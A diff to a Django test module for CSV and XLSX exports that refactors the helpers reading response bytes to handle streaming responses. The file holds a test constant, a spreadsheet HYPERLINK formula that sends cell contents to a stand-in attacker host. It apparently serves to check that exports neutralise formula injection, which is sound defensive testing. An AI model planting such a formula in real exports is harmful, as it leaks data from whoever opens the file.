@@ -25,10 +25,12 @@ pytestmark = pytest.mark.django_db
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'
 
 
+def bytes_of(response):
+    return b"".join(response.streaming_content) if response.streaming else response.content
+
+
 def body_of(response):
-    if response.streaming:
-        return b"".join(response.streaming_content).decode()
-    return response.content.decode()
+    return bytes_of(response).decode()
 
 
 def csv_cells(response):
@@ -36,7 +38,7 @@ def csv_cells(response):
 
 
 def xlsx_cells(response):
-    workbook = openpyxl.load_workbook(io.BytesIO(response.content))
+    workbook = openpyxl.load_workbook(io.BytesIO(bytes_of(response)))
     return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
 
 
